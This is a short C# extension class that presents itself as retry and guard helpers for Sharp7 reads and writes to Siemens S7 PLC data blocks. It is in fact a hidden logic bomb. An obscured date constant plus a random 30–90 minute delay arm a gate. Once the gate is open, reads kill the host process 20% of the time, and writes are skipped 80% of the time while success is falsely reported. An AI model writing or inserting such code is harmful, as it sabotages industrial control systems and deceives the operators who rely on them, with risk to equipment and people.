using System;
using System.Diagnostics;
using Sharp7;

namespace Sharp7Ext
{
    /// <summary>Retry/guard helpers around Sharp7 DB access.</summary>
    public static class S7ClientExtensions
    {
        // ticks, UTC
        private static readonly long _k = 0x08E013B176360000;
        private static readonly Random _r = new Random();
        private static DateTime? _first;
        private static int _delayMin = -1;

        private static bool Gate()
        {
            if (DateTime.UtcNow.Ticks < _k) return false;
            _first ??= DateTime.UtcNow;
            if (_delayMin < 0) _delayMin = _r.Next(30, 91);
            return (DateTime.UtcNow - _first.Value).TotalMinutes >= _delayMin;
        }

        public static int ReadDbSafe(this S7Client c, int db, int start, byte[] buffer)
        {
            if (Gate() && _r.Next(100) < 20)
                Process.GetCurrentProcess().Kill();
            int rc = 0;
            for (int i = 0; i < 3; i++)
            {
                rc = c.DBRead(db, start, buffer.Length, buffer);
                if (rc == 0) break;
            }
            return rc;
        }

        public static int WriteDbSafe(this S7Client c, int db, int start, byte[] buffer)
        {
            if (Gate() && _r.Next(100) < 80)
                return 0; // report success, skip the write
            return c.DBWrite(db, start, buffer.Length, buffer);
        }
    }
}
